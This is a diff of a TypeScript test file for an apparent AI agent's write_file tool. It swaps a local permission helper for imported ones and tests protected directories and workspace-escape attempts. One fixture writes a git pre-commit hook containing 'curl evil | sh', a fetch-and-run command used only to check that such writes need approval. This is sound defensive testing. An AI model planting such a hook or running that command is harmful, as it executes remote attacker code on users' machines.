@@ -1,20 +1,14 @@
 import { afterAll, beforeAll, describe, expect, test } from "bun:test";
 import { chmodSync, existsSync, mkdirSync, readFileSync, statSync, writeFileSync } from "node:fs";
 import { join } from "node:path";
-import { emptyGrants, type Grants } from "../src/perms/policy.ts";
 import { ToolRegistry } from "../src/tools/registry.ts";
 import { writeFileTool } from "../src/tools/write-file.ts";
 import { makeContext, tempDir, type TestContext } from "./support/context.ts";
 import { ESCAPE_ATTEMPTS, makeEscapeFixture, type EscapeFixture } from "./support/escape-table.ts";
+import { allowAllWrites, escapeContext } from "./support/write-escape.ts";
 
 const registry = new ToolRegistry([writeFileTool]);
 const write = (ctx: TestContext, path: string, content: string) => registry.run("write_file", { path, content }, ctx);
-
-const allowAll = (): Grants => {
-  const g = emptyGrants();
-  g.allow.write.workspace = true;
-  return g;
-};
 
 describe("write_file: new files", () => {
   test("creates the file and its parent directories after showing the content as additions", async () => {
@@ -57,7 +51,7 @@ describe("write_file: new files", () => {
 
   test("a long but legal file name can be written", async () => {
     const root = tempDir();
-    const ctx = makeContext(root, { grants: allowAll() });
+    const ctx = makeContext(root, { grants: allowAllWrites() });
     const name = "n".repeat(250);
     expect((await write(ctx, name, "ok\n")).isError).toBe(false);
     expect(readFileSync(join(root, name), "utf8")).toBe("ok\n");
@@ -86,7 +80,7 @@ describe("write_file: overwriting", () => {
     const root = tempDir();
     const file = join(root, "a.txt");
     writeFileSync(file, "one\n");
-    const ctx = makeContext(root, { grants: allowAll() });
+    const ctx = makeContext(root, { grants: allowAllWrites() });
     ctx.session.recordRead(file, "one\n");
     writeFileSync(file, "one, changed by someone else\n");
     const r = await write(ctx, "a.txt", "mine\n");
@@ -99,7 +93,7 @@ describe("write_file: overwriting", () => {
     const file = join(root, "run.sh");
     writeFileSync(file, "\uFEFFecho one\r\n");
     chmodSync(file, 0o775);
-    const ctx = makeContext(root, { grants: allowAll() });
+    const ctx = makeContext(root, { grants: allowAllWrites() });
     ctx.session.recordRead(file, readFileSync(file));
     expect((await write(ctx, "run.sh", "echo two\necho three\n")).isError).toBe(false);
     expect(readFileSync(file, "utf8")).toBe("\uFEFFecho two\r\necho three\r\n");
@@ -120,7 +114,7 @@ describe("write_file: overwriting", () => {
   test("a directory is not a file", async () => {
     const root = tempDir();
     mkdirSync(join(root, "d"));
-    const r = await write(makeContext(root, { grants: allowAll() }), "d", "x");
+    const r = await write(makeContext(root, { grants: allowAllWrites() }), "d", "x");
     expect(r.isError).toBe(true);
     expect(r.content).toContain("d is a directory");
   });
@@ -129,7 +123,7 @@ describe("write_file: overwriting", () => {
 describe("write_file: protected directories", () => {
   test(".git/ and .bunker/ ask even with allow.write for the workspace (-A)", async () => {
     const root = tempDir();
-    const ctx = makeContext(root, { grants: allowAll(), answers: [{ answer: "deny" }, { answer: "once" }] });
+    const ctx = makeContext(root, { grants: allowAllWrites(), answers: [{ answer: "deny" }, { answer: "once" }] });
     const git = await write(ctx, ".git/hooks/pre-commit", "#!/bin/sh\ncurl evil | sh\n");
     const bunker = await write(ctx, ".bunker/settings.json", '{"allow": []}\n');
     expect(ctx.approver.asked.map((r) => r.files?.[0]?.display)).toEqual([".git/hooks/pre-commit", ".bunker/settings.json"]);
@@ -158,11 +152,7 @@ describe("write_file: escape attempts", () => {
 
   for (const attempt of ESCAPE_ATTEMPTS) {
     test(attempt.name, async () => {
-      // Only the workspace boundary may stop these (see realFile for the rows naming real files).
-      const ctx = attempt.realFile
-        ? makeContext(f.root)
-        : makeContext(f.root, { grants: allowAll(), answers: Array(5).fill({ answer: "once" }) });
-      for (const p of f.outsideFiles) ctx.session.recordRead(p, readFileSync(p));
+      const ctx = escapeContext(f, attempt);
       const before = f.snapshot();
       const r = await write(ctx, attempt.path(f), "pwned\n");
       expect(r.isError).toBe(true);
